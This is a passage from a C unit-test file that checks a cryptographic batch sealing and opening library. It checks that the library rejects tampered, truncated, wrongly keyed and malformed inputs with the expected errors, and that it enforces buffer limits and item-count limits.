    memset(blob + 105 + L, 0, 8);
    verify_blob_expect(blob, fx.blob_len, fx.n, CLOAK_E_MALFORMED);
    /* Truncated or extended. */
    for (size_t len = 0; len < fx.blob_len; len++) {
        verify_blob_expect(fx.blob, len, fx.n, CLOAK_E_MALFORMED);
    }
    memcpy(blob, fx.blob, fx.blob_len);
    blob[fx.blob_len] = 0;
    verify_blob_expect(blob, fx.blob_len + 1U, fx.n, CLOAK_E_MALFORMED);
}

/* Every byte of an item changed: refused with its region's status, and the item still opens after. */
static void test_tamper_item(void **state)
{
    (void)state;
    cloak_batch r;
    uint8_t tags[16U * MAXI];
    uint8_t item[ITEM_CAP];
    uint8_t name[NAME_MAX_];
    uint8_t value[PT_CAP];
    size_t nl;
    size_t vl;
    static const size_t names[] = {3, 4};
    static const size_t values[] = {10, 20};

    build_batch(&fx, &account_a, &creator, &head_a, 2, names, values);
    verify_ok(&r, tags, &fx);
    const size_t len = fx.item_lens[1];
    for (size_t i = 0; i < len; i++) {
        int expected;
        memcpy(item, fx.items[1], len);
        item[i] ^= 0x01;
        if (i < 4) {
            expected = expected_header_code(i, item[i]);
        } else if (i < 20) {
            expected = CLOAK_E_WRONG_KEY;
        } else if (i < I_INDEX) {
            expected = CLOAK_E_MISMATCH;
        } else if (i < I_CT) {
            /* Index 0 is in the batch but is not this item; any other index is beyond n = 2. */
            expected = cloak__load32_be(item + I_INDEX) < 2 ? CLOAK_E_BAD_SIGNATURE : CLOAK_E_MISMATCH;
        } else {
            expected = CLOAK_E_BAD_SIGNATURE;
        }
        open_expect(&r, tags, fx.n, item, len, expected, name, &nl, value, &vl);
    }
    /* Truncated, extended, or of a length that is not a padded one. */
    for (size_t l = 0; l < len; l++) {
        open_expect(&r, tags, fx.n, fx.items[1], l, CLOAK_E_MALFORMED, name, &nl, value, &vl);
    }
    memcpy(item, fx.items[1], len);
    item[len] = 0;
    open_expect(&r, tags, fx.n, item, len + 1U, CLOAK_E_MALFORMED, name, &nl, value, &vl);
    open_check(&r, tags, &fx, 1);
    open_check(&r, tags, &fx, 0);
    cloak_batch_wipe(&r);
}

/* The account the batch is for, and only the identities trusted. */
static void test_account_and_trust(void **state)
{
    (void)state;
    cloak_batch r;
    uint8_t tags[16U * MAXI];
    uint8_t trusted[96];

    build_default(&fx, &account_a, &creator, &head_a);
    assert_int_equal(verify_with(&r, tags, &fx, &account_b, head_a.vault_id, head_a.vault_id_len, creator.pk, 1),
                     CLOAK_E_WRONG_KEY);
    assert_int_equal(verify_with(&r, tags, &fx, &account_a, head_a.vault_id, head_a.vault_id_len, stranger.pk, 1),
                     CLOAK_E_UNTRUSTED_SIGNER);
    assert_int_equal(verify_with(&r, tags, &fx, &account_a, head_a.vault_id, head_a.vault_id_len, NULL, 0),
                     CLOAK_E_UNTRUSTED_SIGNER);
    memcpy(trusted, stranger.pk, 32);
    memcpy(trusted + 32, second.pk, 32);
    memcpy(trusted + 64, creator.pk, 32);
    assert_int_equal(verify_with(&r, tags, &fx, &account_a, head_a.vault_id, head_a.vault_id_len, trusted, 3),
                     CLOAK_OK);
    cloak_batch_wipe(&r);
    /* The right public key with another secret key: the agreement differs, so no item opens. */
    party wrong = account_a;
    uint8_t name[NAME_MAX_];
    uint8_t value[PT_CAP];
    size_t nl;
    size_t vl;
    memcpy(wrong.sk, account_b.sk, 32);
    assert_int_equal(verify_with(&r, tags, &fx, &wrong, head_a.vault_id, head_a.vault_id_len, creator.pk, 1),
                     CLOAK_OK);
    assert_int_equal(cloak_batch_check(&r, 1, 1, NOW), CLOAK_OK);
    open_expect(&r, tags, fx.n, fx.items[0], fx.item_lens[0], CLOAK_E_AUTH, name, &nl, value, &vl);
    cloak_batch_wipe(&r);
}

static void test_begin_errors(void **state)
{
    (void)state;
    cloak_batch w;
    uint8_t bad[32];
    head h = head_a;

    memset(&w, FILL, sizeof w);
    assert_int_equal(cloak_batch_begin(&w, NULL, creator.pk, h.vault_id, h.vault_id_len, 1, 1, h.hash, 0),
                     CLOAK_E_BAD_PARAMS);
    assert_true(state_zero(&w));
    assert_int_equal(cloak_batch_begin(&w, account_a.pk, NULL, h.vault_id, h.vault_id_len, 1, 1, h.hash, 0),
                     CLOAK_E_BAD_PARAMS);
    assert_int_equal(cloak_batch_begin(&w, account_a.pk, creator.pk, h.vault_id, 0, 1, 1, h.hash, 0),
                     CLOAK_E_BAD_PARAMS);
    assert_int_equal(cloak_batch_begin(&w, account_a.pk, creator.pk, h.vault_id, 256, 1, 1, h.hash, 0),
                     CLOAK_E_BAD_PARAMS);
    assert_int_equal(cloak_batch_begin(&w, account_a.pk, creator.pk, h.vault_id, h.vault_id_len, 0, 1, h.hash, 0),
                     CLOAK_E_BAD_PARAMS);
    assert_int_equal(cloak_batch_begin(&w, account_a.pk, creator.pk, h.vault_id, h.vault_id_len, 1, 0, h.hash, 0),
                     CLOAK_E_BAD_PARAMS);
    assert_int_equal(cloak_batch_begin(&w, account_a.pk, creator.pk, h.vault_id, h.vault_id_len, 1, 1, NULL, 0),
                     CLOAK_E_BAD_PARAMS);
    assert_true(state_zero(&w));
    /* Small order (u = 0, 1) and not canonical (bit 255 set, u = p). */
    memset(bad, 0, sizeof bad);
    assert_int_equal(cloak_batch_begin(&w, bad, creator.pk, h.vault_id, h.vault_id_len, 1, 1, h.hash, 0),
                     CLOAK_E_INVALID_KEY);
    bad[0] = 1;
    assert_int_equal(cloak_batch_begin(&w, bad, creator.pk, h.vault_id, h.vault_id_len, 1, 1, h.hash, 0),
                     CLOAK_E_INVALID_KEY);
    memcpy(bad, account_a.pk, 32);
    bad[31] |= 0x80U;
    assert_int_equal(cloak_batch_begin(&w, bad, creator.pk, h.vault_id, h.vault_id_len, 1, 1, h.hash, 0),
                     CLOAK_E_MALFORMED);
    memset(bad, 0xff, sizeof bad);
    bad[0] = 0xed;
    bad[31] = 0x7f;
    assert_int_equal(cloak_batch_begin(&w, bad, creator.pk, h.vault_id, h.vault_id_len, 1, 1, h.hash, 0),
                     CLOAK_E_MALFORMED);
    assert_true(state_zero(&w));
    /* The largest values are fine. */
    assert_int_equal(cloak_batch_begin(&w, account_a.pk, creator.pk, h.vault_id, 255, UINT32_MAX, UINT64_MAX, h.hash,
                                       UINT64_MAX),
                     CLOAK_OK);
    cloak_batch_wipe(&w);
}

/* seal_item's checks come before an index is reserved (a failed call takes no index); finish's count,
 * capacity and end of the writer. */
static void test_seal_and_finish_errors(void **state)
{
    (void)state;
    cloak_batch w;
    uint8_t item[ITEM_CAP];
    uint8_t digests[3 * 32];
    uint8_t blob[BLOB_CAP];
    uint8_t name[256];
    size_t item_len = 5;
    size_t blob_len = 5;
    uint32_t index = 5;

    memset(name, 'n', sizeof name);
    assert_int_equal(begin(&w, &account_a, &creator, &head_a), CLOAK_OK);
    memset(item, FILL, sizeof item);
    assert_int_equal(cloak_batch_seal_item(&w, item, sizeof item, &item_len, &index, digests, name, 0, NULL, 0),
                     CLOAK_E_BAD_PARAMS);
    assert_true(all_zero(item, sizeof item));
    assert_int_equal(item_len, 0);
    assert_int_equal(index, 0);
    assert_int_equal(cloak_batch_seal_item(&w, item, sizeof item, &item_len, &index, digests, name, 256, NULL, 0),
                     CLOAK_E_BAD_PARAMS);
    assert_int_equal(cloak_batch_seal_item(&w, item, sizeof item, &item_len, &index, digests, name, 1, NULL, 1),
                     CLOAK_E_BAD_PARAMS);
    assert_int_equal(cloak_batch_seal_item(&w, item, sizeof item, &item_len, NULL, digests, name, 1, NULL, 0),
                     CLOAK_E_BAD_PARAMS);
    assert_int_equal(cloak_batch_seal_item(&w, item, 119, &item_len, &index, digests, name, 1, NULL, 0),
                     CLOAK_E_BUFFER_TOO_SMALL);
    /* The name inside the output would be overwritten while it is read. */
    assert_int_equal(cloak_batch_seal_item(&w, item, sizeof item, &item_len, &index, digests, item + 50, 1, NULL, 0),
                     CLOAK_E_BAD_PARAMS);
    /* None of those took an index. */
    assert_int_equal(cloak_batch_seal_item(&w, item, 120, &item_len, &index, digests, name, 1, NULL, 0), CLOAK_OK);
    assert_int_equal(index, 0);
    /* A value already in place in the output. */
    memcpy(item + 500, "in place", 8);
    assert_int_equal(cloak_batch_seal_item(&w, item, sizeof item, &item_len, &index, digests + 32, name, 3,
                                           item + 500, 8),
                     CLOAK_OK);
    assert_int_equal(index, 1);
    /* Wrong count: BAD_PARAMS, and the writer is over. */
    memset(blob, FILL, sizeof blob);
    assert_int_equal(cloak_batch_finish(&w, blob, sizeof blob, &blob_len, digests, 1, creator.sk), CLOAK_E_BAD_PARAMS);
    assert_true(all_zero(blob, sizeof blob));
    assert_true(state_zero(&w));
    assert_int_equal(cloak_batch_seal_item(&w, item, sizeof item, &item_len, &index, digests, name, 1, NULL, 0),
                     CLOAK_E_BAD_STATE);
    assert_int_equal(cloak_batch_finish(&w, blob, sizeof blob, &blob_len, digests, 2, creator.sk), CLOAK_E_BAD_STATE);

    /* Too small an output; then a finish that works, and nothing after it. */
    assert_int_equal(begin(&w, &account_a, &creator, &head_a), CLOAK_OK);
    assert_int_equal(cloak_batch_finish(&w, blob, cloak_batch_len(head_a.vault_id_len, 0) - 1U, &blob_len, NULL, 0,
                                        creator.sk),
                     CLOAK_E_BUFFER_TOO_SMALL);
    assert_true(state_zero(&w));
    assert_int_equal(begin(&w, &account_a, &creator, &head_a), CLOAK_OK);
    assert_int_equal(cloak_batch_seal_item(&w, item, sizeof item, &item_len, &index, digests, name, 1, NULL, 0),
                     CLOAK_OK);
    assert_int_equal(cloak_batch_finish(&w, blob, sizeof blob, &blob_len, digests, 1, creator.sk), CLOAK_OK);
    assert_int_equal(cloak_batch_finish(&w, blob, sizeof blob, &blob_len, digests, 1, creator.sk), CLOAK_E_BAD_STATE);
    assert_true(all_zero(blob, sizeof blob));
    assert_int_equal(cloak_batch_seal_item(&w, item, sizeof item, &item_len, &index, digests, name, 1, NULL, 0),
                     CLOAK_E_BAD_STATE);
    /* More than CLOAK_BATCH_ITEMS_MAX digests. */
    assert_int_equal(begin(&w, &account_a, &creator, &head_a), CLOAK_OK);
    assert_int_equal(cloak_batch_finish(&w, blob, sizeof blob, &blob_len, digests, CLOAK_BATCH_ITEMS_MAX + 1U,
                                        creator.sk),
                     CLOAK_E_BAD_PARAMS);
}

/* Roles: a reader cannot seal or finish, a writer cannot check or open, a wiped or never-initialised
 * state does nothing; open_item's capacities are checked before decrypting. */
static void test_roles_and_buffers(void **state)
{
    (void)state;
    cloak_batch w;
    cloak_batch r;
    uint8_t tags[16U * MAXI];
    uint8_t item[ITEM_CAP];
    uint8_t digest[32];
    uint8_t blob[BLOB_CAP];
    uint8_t name[NAME_MAX_];
    uint8_t value[PT_CAP];
    size_t item_len;
    size_t blob_len;
    size_t nl;
    size_t vl;
    uint32_t index;

    build_default(&fx, &account_a, &creator, &head_a);
    verify_ok(&r, tags, &fx);
    assert_int_equal(cloak_batch_seal_item(&r, item, sizeof item, &item_len, &index, digest, (const uint8_t *)"a", 1,
                                           NULL, 0),
                     CLOAK_E_BAD_STATE);
    assert_int_equal(begin(&w, &account_a, &creator, &head_a), CLOAK_OK);
    assert_int_equal(cloak_batch_check(&w, 1, 1, NOW), CLOAK_E_BAD_STATE);
    open_expect(&w, tags, fx.n, fx.items[0], fx.item_lens[0], CLOAK_E_BAD_STATE, name, &nl, value, &vl);
    assert_int_equal(cloak_batch_item_count(&w), 0);
    cloak_batch_wipe(&w);
    assert_int_equal(cloak_batch_finish(&w, blob, sizeof blob, &blob_len, NULL, 0, creator.sk), CLOAK_E_BAD_STATE);
    memset(&w, 0, sizeof w);
    assert_int_equal(cloak_batch_check(&w, 1, 1, NOW), CLOAK_E_BAD_STATE);

    /* value_cap below the padded plaintext, name_cap below min(255, P - 5): refused before anything is
     * decrypted, so the tag is not used up. */
    const size_t i = 1; /* a 255-byte name */
    const size_t p = cloak_batch_item_opened_maxlen(fx.item_lens[i]);
    assert_int_equal(p, fx.item_lens[i] - 56U);
    memset(value, FILL, sizeof value);
    assert_int_equal(cloak_batch_open_item(&r, tags, 16U * fx.n, fx.items[i], fx.item_lens[i], name, NAME_MAX_, &nl,
                                           value, p - 1U, &vl),
                     CLOAK_E_BUFFER_TOO_SMALL);
    assert_true(all_zero(value, p - 1U));
    assert_int_equal(cloak_batch_open_item(&r, tags, 16U * fx.n, fx.items[i], fx.item_lens[i], name, NAME_MAX_ - 1U,
                                           &nl, value, p, &vl),
                     CLOAK_E_BUFFER_TOO_SMALL);
    /* A 64-byte bucket holds names of at most 59 bytes: that much name buffer is enough. */
    assert_int_equal(fx.item_lens[0], 120);
    assert_int_equal(cloak_batch_open_item(&r, tags, 16U * fx.n, fx.items[0], fx.item_lens[0], name, 58, &nl, value,
                                           64, &vl),
                     CLOAK_E_BUFFER_TOO_SMALL);
    assert_int_equal(cloak_batch_open_item(&r, tags, 16U * fx.n, fx.items[0], fx.item_lens[0], name, 59, &nl, value,
                                           64, &vl),
                     CLOAK_OK);
    assert_int_equal(nl, fx.name_lens[0]);
    assert_int_equal(vl, 0);
    /* Exactly the documented capacities. */
    assert_int_equal(cloak_batch_open_item(&r, tags, 16U * fx.n, fx.items[i], fx.item_lens[i], name, NAME_MAX_, &nl,
                                           value, p, &vl),
                     CLOAK_OK);
    assert_int_equal(vl, fx.value_lens[i]);
    assert_memory_equal(value, fx.values[i], vl);
    cloak_batch_wipe(&r);
    open_expect(&r, tags, fx.n, fx.items[2], fx.item_lens[2], CLOAK_E_BAD_STATE, name, &nl, value, &vl);
}

/* A batch of CLOAK_BATCH_ITEMS_MAX items: one more is refused before any index is taken; the last
 * opens. */
static void test_max_items(void **state)
{
    (void)state;
    const size_t n = CLOAK_BATCH_ITEMS_MAX;
    uint8_t *digests = malloc(32 * n);
    uint8_t *tags = malloc(cloak_batch_tags_len(n));
    uint8_t *blob = malloc(cloak_batch_len(1, n));
    uint8_t item[ITEM_CAP];
    uint8_t last[ITEM_CAP];
    size_t item_len = 0;
    size_t last_len;
    size_t blob_len;
    uint8_t digest[32];
    uint8_t vault_id[1] = {'v'};
    uint8_t hash[32] = {0};
    uint8_t name[NAME_MAX_];
    uint8_t value[PT_CAP];
    size_t nl;
    size_t vl;
    uint32_t index;
    cloak_batch w;
    cloak_batch r;

    assert_non_null(digests);
    assert_non_null(tags);
    assert_non_null(blob);
    assert_int_equal(cloak_batch_begin(&w, account_a.pk, creator.pk, vault_id, 1, 1, 1, hash, UINT64_MAX), CLOAK_OK);
    for (size_t i = 0; i < n; i++) {
        uint32_t v = (uint32_t)i;
        assert_int_equal(cloak_batch_seal_item(&w, item, sizeof item, &item_len, &index, digests + 32 * i,
                                               (const uint8_t *)"k", 1, (const uint8_t *)&v, sizeof v),
                         CLOAK_OK);
    }
    memcpy(last, item, item_len);
    last_len = item_len;
    assert_int_equal(cloak_batch_seal_item(&w, item, sizeof item, &item_len, &index, digest, (const uint8_t *)"k", 1,
                                           NULL, 0),
                     CLOAK_E_BAD_PARAMS);
    assert_true(all_zero(digest, sizeof digest));
    assert_int_equal(cloak_batch_finish(&w, blob, cloak_batch_len(1, n), &blob_len, digests, n, creator.sk), CLOAK_OK);
    assert_int_equal(cloak_batch_verify(&r, tags, cloak_batch_tags_len(n), blob, blob_len, vault_id, 1, account_a.pk,
                                        account_a.sk, creator.pk, 1),
                     CLOAK_OK);
    assert_int_equal(cloak_batch_check(&r, 1, 1, NOW), CLOAK_OK);
    assert_int_equal(cloak_batch_item_count(&r), n);
    assert_int_equal(cloak_batch_open_item(&r, tags, cloak_batch_tags_len(n), last, last_len, name, sizeof name, &nl,
                                           value, sizeof value, &vl),
                     CLOAK_OK);
    uint32_t got;
    assert_int_equal(vl, sizeof got);
    memcpy(&got, value, sizeof got);
    assert_int_equal(got, n - 1);
    cloak_batch_wipe(&r);
    free(digests);
    free(tags);
    free(blob);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_sizes),
        cmocka_unit_test(test_round_trip_and_layout),
        cmocka_unit_test(test_other_vault_and_old_batch),
        cmocka_unit_test(test_expired),
        cmocka_unit_test(test_thief_forged_item),
        cmocka_unit_test(test_resigned_by_other_trusted),
        cmocka_unit_test(test_poisoned_creator_key),
        cmocka_unit_test(test_copied_states),
        cmocka_unit_test(test_padding_buckets),
        cmocka_unit_test(test_repeated_and_foreign_items),
        cmocka_unit_test(test_tamper_batch),
        cmocka_unit_test(test_tamper_item),
        cmocka_unit_test(test_account_and_trust),
        cmocka_unit_test(test_begin_errors),
        cmocka_unit_test(test_seal_and_finish_errors),
        cmocka_unit_test(test_roles_and_buffers),
        cmocka_unit_test(test_max_items),
    };
    return cmocka_run_group_tests(tests, setup, NULL);
}
